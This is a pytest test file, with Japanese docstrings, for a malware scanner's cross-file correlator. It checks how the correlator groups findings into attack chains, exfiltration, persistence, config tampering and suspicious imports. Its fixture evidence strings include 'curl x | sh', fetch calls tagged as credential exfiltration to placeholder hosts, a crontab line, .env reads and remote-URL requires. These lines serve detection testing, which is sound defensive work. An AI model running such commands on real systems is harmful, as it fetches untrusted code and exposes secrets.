"""ファイル横断相関解析のテスト。"""

import json
import pytest

from bleedscan.config import Config
from bleedscan.correlation.correlator import Correlator, import_suspicion, persistence_technique
from bleedscan.correlation.dependency_graph import DependencyGraph
from bleedscan.io.source_reader import SourceFile
from bleedscan.models.finding import CorrelationRecord, Finding, Severity


def make_source(rel_path, content=""):
    return SourceFile(path=rel_path, rel_path=rel_path, content=content, size=len(content))


def make_finding(rel_path, line, category="Backdoor", evidence="eval(", finding_id=""):
    return Finding(
        file_path=rel_path,
        line=line,
        category=category,
        matcher_id="m",
        severity=Severity.HIGH,
        evidence=evidence,
        id=finding_id
    )


def correlation_types(finding):
    return [c.type for c in finding.correlations]


class TestAttackChains:
    """協調攻撃チェーン検出のテスト。"""

    def test_numbered_payloads_in_same_directory(self):
        """同じディレクトリのpayload1/payload2のBackdoor指摘は両方attack_chainを受け取る。"""
        graph = DependencyGraph.build([make_source("bundle/payload1.js"), make_source("bundle/payload2.js")])
        findings = [make_finding("bundle/payload1.js", 3), make_finding("bundle/payload2.js", 7)]

        result = Correlator(Config()).correlate(findings, graph)

        assert all("attack_chain" in correlation_types(f) for f in result)
        record = result[0].correlations[0]
        assert record.severity == Severity.CRITICAL
        assert record.details["files"] == [
            {"path": "bundle/payload1.js", "line": 3},
            {"path": "bundle/payload2.js", "line": 7},
        ]

    def test_name_pattern_across_directories(self):
        """別ディレクトリでも数字接尾辞を除いたベース名が一致すれば関連とみなす。"""
        graph = DependencyGraph.build([make_source("a/stage_1.js"), make_source("b/stage_2.js")])
        findings = [make_finding("a/stage_1.js", 1), make_finding("b/stage_2.js", 1)]

        result = Correlator(Config()).correlate(findings, graph)

        assert all("attack_chain" in correlation_types(f) for f in result)

    def test_edge_relates_files(self):
        """インポートのエッジで関連するファイル同士はチェーンになる。"""
        graph = DependencyGraph.build([
            make_source("a/entry.js", "require('../b/worker');\n"),
            make_source("b/worker.js"),
        ])
        findings = [make_finding("a/entry.js", 2), make_finding("b/worker.js", 4)]

        result = Correlator(Config()).correlate(findings, graph)

        assert all("attack_chain" in correlation_types(f) for f in result)

    def test_unrelated_files(self):
        """関連のないファイルはチェーンにならない。"""
        graph = DependencyGraph.build([make_source("a/entry.js"), make_source("b/worker.js")])
        findings = [make_finding("a/entry.js", 2), make_finding("b/worker.js", 4)]

        result = Correlator(Config()).correlate(findings, graph)

        assert all("attack_chain" not in correlation_types(f) for f in result)

    def test_single_file_category(self):
        """1ファイルのみのカテゴリはチェーンにならない。"""
        graph = DependencyGraph.build([make_source("bundle/payload1.js")])
        findings = [make_finding("bundle/payload1.js", 1), make_finding("bundle/payload1.js", 2)]

        result = Correlator(Config()).correlate(findings, graph)

        assert all(f.correlations == () for f in result)


class TestExfiltrationAndFlow:
    """分散データ送出とデータフローチェーンのテスト。"""

    def test_distributed_exfiltration(self):
        """2つ以上の送信先があれば全関与ファイルに記録される。"""
        graph = DependencyGraph.build([make_source("one.js"), make_source("two.js"), make_source("three.js")])
        findings = [
            make_finding("one.js", 1, "Credential Exfiltration", "fetch('https://alpha.io/x', body)"),
            make_finding("two.js", 1, "Credential Exfiltration", "fetch('https://beta.io/y', body)"),
            make_finding("three.js", 1, "Obfuscated Code", "atob(atob("),
        ]

        result = Correlator(Config()).correlate(findings, graph)

        record = next(c for c in result[0].correlations if c.type == "distributed_exfiltration")
        assert record.details["destinations"] == ["alpha.io", "beta.io"]
        assert "distributed_exfiltration" in correlation_types(result[1])
        assert "distributed_exfiltration" not in correlation_types(result[2])

    def test_single_destination(self):
        """送信先が1つだけなら記録しない。"""
        graph = DependencyGraph.build([make_source("one.js"), make_source("two.js")])
        findings = [
            make_finding("one.js", 1, "Credential Exfiltration", "fetch('https://alpha.io/x')"),
            make_finding("two.js", 1, "Credential Exfiltration", "fetch('https://alpha.io/y')"),
        ]

        result = Correlator(Config()).correlate(findings, graph)

        assert all("distributed_exfiltration" not in correlation_types(f) for f in result)

    def test_data_flow_chain(self):
        """入力・処理・出力の3段階のパスでdata_flow_chainを生成する。"""
        graph = DependencyGraph.build([
            make_source("handler.js", "const { relay } = require('./relay');\n"),
            make_source("relay.js", "module.exports = { relay };\n"),
        ])
        findings = [
            make_finding("handler.js", 4, "Data Flow", "req.body.token"),
            make_finding("handler.js", 5, "Data Flow", "fetch("),
            make_finding("relay.js", 2, "Network", "send(target)"),
        ]

        result = Correlator(Config()).correlate(findings, graph)

        assert all("data_flow_chain" in correlation_types(f) for f in result)
        record = next(c for c in result[0].correlations if c.type == "data_flow_chain")
        assert [step["role"] for step in record.details["path"]] == ["input", "processing", "output"]
        assert record.files == ("handler.js", "relay.js")

    def test_data_flow_needs_three_steps(self):
        """エッジがなければパスが2段階となり記録しない。"""
        graph = DependencyGraph.build([make_source("handler.js")])
        findings = [
            make_finding("handler.js", 4, "Data Flow", "req.body.token"),
            make_finding("handler.js", 5, "Data Flow", "fetch("),
        ]

        result = Correlator(Config()).correlate(findings, graph)

        assert all("data_flow_chain" not in correlation_types(f) for f in result)


class TestPersistenceAndConfig:
    """永続化と設定ファイル関連の検出のテスト。"""

    def test_multi_file_persistence(self):
        """2ファイル以上の永続化指摘で技法付きの記録を生成する。"""
        graph = DependencyGraph.build([make_source("a/hook.js"), make_source("b/agent.sh")])
        findings = [
            make_finding("a/hook.js", 1, "Persistence", "register startup hook"),
            make_finding("b/agent.sh", 1, "Scheduling", "crontab -l | cat"),
            make_finding("b/agent.sh", 2, "Persistence", "launch daemon"),
        ]

        result = Correlator(Config()).correlate(findings, graph)

        record = next(c for c in result[0].correlations if c.type == "multi_file_persistence")
        assert record.details["strategies"] == [
            {"file": "a/hook.js", "techniques": ["startup_persistence"]},
            {"file": "b/agent.sh", "techniques": ["service_persistence"]},
        ]
        assert all("multi_file_persistence" in correlation_types(f) for f in result)

    def test_persistence_technique(self):
        """証拠のキーワードから技法を判定する。"""
        assert persistence_technique("on boot") == "startup_persistence"
        assert persistence_technique("npm install hook") == "installation_persistence"
        assert persistence_technique("write cron entry") == "system_persistence"
        assert persistence_technique("systemd service") == "service_persistence"
        assert persistence_technique("other") == "unknown_persistence"

    def test_config_manipulation_every_file(self):
        """設定を参照するコードファイルはすべて記録される。"""
        graph = DependencyGraph.build([make_source("a/loader.js"), make_source("b/writer.js")])
        findings = [
            make_finding("a/loader.js", 3, "Tampering", "readFileSync('.env')"),
            make_finding("b/writer.js", 8, "Tampering", "writeFileSync('app.config.json', x)"),
        ]

        result = Correlator(Config()).correlate(findings, graph)

        loader = next(c for c in result[0].correlations if c.type == "config_manipulation")
        writer = next(c for c in result[1].correlations if c.type == "config_manipulation")
        assert loader.details["targetConfig"] == ".env"
        assert writer.details["targetConfig"] == "app.config.json"
        assert loader.severity == Severity.CRITICAL

    def test_config_code_injection(self):
        """指摘を持つ設定ファイルはconfig_code_injectionになる。"""
        graph = DependencyGraph.build([make_source("hooks.json")])
        findings = [make_finding("hooks.json", 2, "Backdoor", "curl x | sh")]

        result = Correlator(Config()).correlate(findings, graph)

        assert correlation_types(result[0]) == ["config_code_injection"]
        assert result[0].correlations[0].severity == Severity.HIGH


class TestSuspiciousImports:
    """疑わしいインポート検出のテスト。"""

    def test_reasons(self):
        """インポート元から疑わしい理由を判定する。"""
        assert import_suspicion("https://host.io/x.js", "require") == "Import from remote URL"
        assert import_suspicion("/tmp/stage.js", "require") == "Import from temporary directory"
        assert import_suspicion("./" + "a1" * 12, "static") == "Obfuscated import source"
        assert import_suspicion("userModule", "dynamic") == "Dynamic import with user input"
        assert import_suspicion("userModule", "static") is None
        assert import_suspicion("http", "require") is None

    def test_attached_to_findings_of_importing_file(self):
        """疑わしいインポートを含むファイルの指摘に記録される。"""
        graph = DependencyGraph.build([
            make_source("loader.js", "const m = require('https://host.io/m.js');\n"),
            make_source("other.js"),
        ])
        findings = [make_finding("loader.js", 5), make_finding("other.js", 1, "Obfuscated Code")]

        result = Correlator(Config()).correlate(findings, graph)

        assert correlation_types(result[0]) == ["suspicious_import"]
        assert result[0].correlations[0].details["line"] == 1
        assert result[1].correlations == ()

    def test_python_dynamic_import_with_user_input(self):
        """Pythonのimport_moduleにユーザー入力を渡すと疑わしいインポートになる。"""
        graph = DependencyGraph.build([
            make_source("plugin.py", "import importlib\n\nmod = importlib.import_module(user_input)\n"),
        ])
        findings = [make_finding("plugin.py", 3)]

        result = Correlator(Config()).correlate(findings, graph)

        assert correlation_types(result[0]) == ["suspicious_import"]
        details = result[0].correlations[0].details
        assert details["reason"] == "Dynamic import with user input"
        assert (details["kind"], details["line"]) == ("dynamic", 3)


class TestIdempotence:
    """相関結果の決定性のテスト。"""

    def make_inputs(self):
        graph = DependencyGraph.build([
            make_source("bundle/payload1.js", "require('./payload2');\n"),
            make_source("bundle/payload2.js"),
        ])
        findings = [
            make_finding("bundle/payload1.js", 1, "Remote Loader", "fetch('https://alpha.io')", "F00001"),
            make_finding("bundle/payload2.js", 1, "Remote Loader", "fetch('https://beta.io')", "F00002"),
        ]
        return graph, findings

    def test_two_runs_identical(self):
        """同じ入力での2回の実行は同一の出力になる。"""
        graph, findings = self.make_inputs()

        first = Correlator(Config()).correlate(findings, graph)
        second = Correlator(Config()).correlate(findings, graph)

        assert json.dumps([f.to_dict() for f in first]) == json.dumps([f.to_dict() for f in second])

    def test_rerun_does_not_duplicate(self):
        """相関済みの指摘に再実行しても記録は重複しない。"""
        graph, findings = self.make_inputs()
        correlator = Correlator(Config())

        once = correlator.correlate(findings, graph)
        twice = correlator.correlate(once, graph)

        assert [f.to_dict() for f in once] == [f.to_dict() for f in twice]
        assert correlation_types(once[0]) == ["attack_chain", "distributed_exfiltration"]


class TestCorrelationRecord:
    """相関レコードの等価比較のテスト。"""

    def make_record(self):
        return CorrelationRecord(
            type="attack_chain",
            severity=Severity.CRITICAL,
            files=("a.js", "b.js"),
            details={"category": "Backdoor"}
        )

    def test_equal_records(self):
        """同じ内容のレコードは等しい。"""
        assert self.make_record() == self.make_record()
        assert self.make_record() in [self.make_record()]

    def test_unhashable(self):
        """詳細が辞書のレコードはハッシュできない。"""
        with pytest.raises(TypeError):
            hash(self.make_record())
